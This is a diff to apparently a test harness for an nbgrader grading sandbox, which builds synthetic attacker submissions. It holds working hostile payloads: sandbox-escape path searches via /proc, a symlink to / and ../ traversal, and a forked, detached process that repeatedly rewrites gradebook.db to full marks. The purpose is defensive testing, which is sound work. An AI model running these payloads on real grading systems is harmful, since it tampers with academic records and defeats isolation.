@@ -48,6 +48,8 @@ MIN_STUDENTS = len(KINDS)
 MAX_STUDENTS = 999
 #: Written in submitted/<practice student>/ (outside the assignment folder, so nbgrader never copies it).
 MARKER_FILE = ".swarmcast-practice"
+#: Also written in submitted/<attacker>/: `swarmcast grade --unsandboxed` refuses to run these.
+ATTACKER_FILE = ".swarmcast-attacker"
 _NAME = re.compile(r"practice-\d{2,}")
 _REPORT_FILES = ("grading_run.json", "students.csv", "questions.csv", "report.html")
 
@@ -65,20 +67,18 @@ _EDITED_TEST = "pass  # practice submission: the tests were deleted from this lo
 #: grading sandbox (grading/sandbox.py); tests/test_sandbox.py proves it, serially and with two workers.
 _FIND = '''import os, pathlib, sys
 
-def _find(name, limit=20000):
-    """Every path called `name` this code can reach: up from here, ../.., /proc tricks, homes, a walk of /."""
+def _find(name):
+    """Every path called `name` this code can reach: up from here, ../.., /proc tricks, a planted symlink."""
     here = pathlib.Path.cwd()
     starts = [here, pathlib.Path("/proc/1/root") / str(here).lstrip("/"), pathlib.Path("/proc/1/cwd"),
-              pathlib.Path("/proc/self/root") / str(here).lstrip("/"), pathlib.Path(os.environ.get("HOME", "/")),
-              pathlib.Path("/root"), pathlib.Path("/home"), pathlib.Path("/tmp"), pathlib.Path("/srv/nbgrader")]
+              pathlib.Path("/proc/self/root") / str(here).lstrip("/"), pathlib.Path("/proc/self/cwd")]
     try:  # a symlink planted in the scratch folder, pointing out of it
         os.symlink("/", "escape")
         starts.append(pathlib.Path("escape") / str(here).lstrip("/"))
     except OSError:
         pass
     starts += [pathlib.Path("../" * up) for up in range(1, 8)]
-    starts += [pathlib.Path(v) for v in os.environ.values() if v.startswith("/")]
-    found, seen = [], 0
+    found = []
     for start in starts:
         for d in [start, *start.parents]:
             try:
@@ -86,30 +86,29 @@ def _find(name, limit=20000):
                     found.append((d / name).resolve())
             except OSError:
                 pass
-    for top, dirs, files in os.walk("/"):
-        dirs[:] = [x for x in dirs if top != "/" or x not in ("proc", "sys", "dev", "usr")]
-        seen += len(files) + len(dirs)
-        if seen > limit:
-            break
-        if name in files or name in dirs:
-            p = pathlib.Path(top, name).resolve()
-            if p not in found:
-                found.append(p)
     return found
 
 '''
 
 ATTACKS = {
     # (a) write the gradebook: full marks and extra credit for everyone, the attacker included
-    "attack_gradebook": _FIND + '''import sqlite3
-for db in _find("gradebook.db"):
-    try:
-        con = sqlite3.connect(db)
-        con.execute("UPDATE grade SET auto_score = max_score, extra_credit = 20")
-        con.commit()
-        print("ATTACK gradebook: wrote", db)
-    except Exception as exc:
-        print("ATTACK gradebook: refused", db, exc)
+    "attack_gradebook": _FIND + '''import sqlite3, time
+def _write(quiet=False):
+    for db in _find("gradebook.db"):
+        try:
+            con = sqlite3.connect(db, timeout=1)
+            con.execute("UPDATE grade SET auto_score = 100, manual_score = 100, extra_credit = 20")
+            con.commit()
+            quiet or print("ATTACK gradebook: wrote", db)
+        except Exception as exc:
+            quiet or print("ATTACK gradebook: refused", db, exc)
+_write()
+if os.fork() == 0:  # outlive this notebook: the rows of this and later students are written after it
+    os.setsid()
+    for _ in range(15):
+        time.sleep(2)
+        _write(quiet=True)
+    os._exit(0)
 print("ATTACK gradebook: done")
 ''',
     # (b) overwrite every other submitted notebook with this blank one; a detached child tries again later
@@ -403,7 +402,7 @@ def _gradebook_students(course: Course, assignment: str) -> list[str]:
 
 def _remove_empty(folder: Path) -> None:
     """Remove a student folder left with nothing but our marker."""
-    if folder.is_dir() and all(p.name == MARKER_FILE for p in folder.iterdir()):
+    if folder.is_dir() and all(p.name in (MARKER_FILE, ATTACKER_FILE) for p in folder.iterdir()):
         shutil.rmtree(folder)
 
 
@@ -595,6 +594,9 @@ def write_practice_class(
             "Written by `swarmcast practice`: a synthetic student. Remove with `swarmcast practice ASSIGNMENT --clean`.\n",
             encoding="utf-8",
         )
+        if plan.kind in ATTACKS:
+            (student_dir / ATTACKER_FILE).write_text(
+                f"{plan.kind}: a practice attacker. Grade it only in the sandbox (never with --unsandboxed).\n", encoding="utf-8")
         for path in extras:  # data files handed out with the assignment, as a student would submit them
             dest = folder / path.relative_to(release)
             dest.parent.mkdir(parents=True, exist_ok=True)
